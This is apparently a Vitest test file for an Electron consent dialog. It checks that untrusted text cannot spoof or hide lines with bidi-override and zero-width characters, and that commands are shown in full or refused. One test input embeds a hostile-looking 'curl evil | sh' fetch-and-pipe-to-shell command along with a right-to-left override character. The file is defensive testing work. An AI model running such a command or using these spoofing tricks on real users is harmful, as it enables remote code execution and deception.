import { expect, test, vi } from 'vitest'

const place = vi.hoisted(() => ({ response: 0, shown: [] as { detail: string; message: string; defaultId: number; cancelId: number }[] }))
vi.mock('electron', () => ({
  dialog: {
    showMessageBox: async (_window: unknown, options: (typeof place.shown)[number]) => {
      place.shown.push(options)
      return { response: place.response }
    },
  },
}))
// Files share their modules: another may have loaded these over an Electron of its own.
vi.resetModules()
const { askConsent, commandQuestion } = await import('../../../main/window/consent')
const ask = (details: readonly string[]) => askConsent({} as never, { message: 'Add this?', details, agree: 'Add' })

test('agreeing goes on; anything else, Enter and Escape too, refuses', async () => {
  place.response = 1
  await expect(ask([])).resolves.toBeUndefined()
  place.response = 0
  await expect(ask([])).rejects.toMatchObject({ failure: { code: 'cancelled' } })
  expect(place.shown.at(-1)).toMatchObject({ defaultId: 0, cancelId: 0 })
})

test("strangers' text can neither turn, hide nor fake a line, nor push the question off the screen", async () => {
  place.response = 1
  await ask(['name\u202Egnp.exe\u200b', 'a\nIt is quite safe.', 'x'.repeat(10_000)])
  const { detail } = place.shown.at(-1)!
  expect(detail.split('\n')).toHaveLength(3)
  expect(detail).not.toMatch(/[\u202e\u200b]/)
  expect(detail.length).toBeLessThan(400)
  await ask(Array.from({ length: 500 }, (_, at) => `caution ${at}`))
  expect(place.shown.at(-1)!.detail.split('\n').at(-1)).toBe('And 488 more.')
})

test('a command is shown to its last character, or it is not asked about', async () => {
  place.response = 1
  const command = `login --url https://example.com/${'x'.repeat(2_000)} --exec 'curl evil | sh' \u202e\nend`
  await askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', command))
  const { detail, message } = place.shown.at(-1)!
  expect(message).toBe('Run this command to log in to prod?')
  expect(detail.split('\n').slice(3).join('')).toBe(command.replace('\u202e\n', '\ufffd\ufffd'))
  const before = place.shown.length
  await expect(askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', 'x'.repeat(100_000)))).rejects.toMatchObject({ failure: { code: 'denied' } })
  expect(place.shown).toHaveLength(before)
})
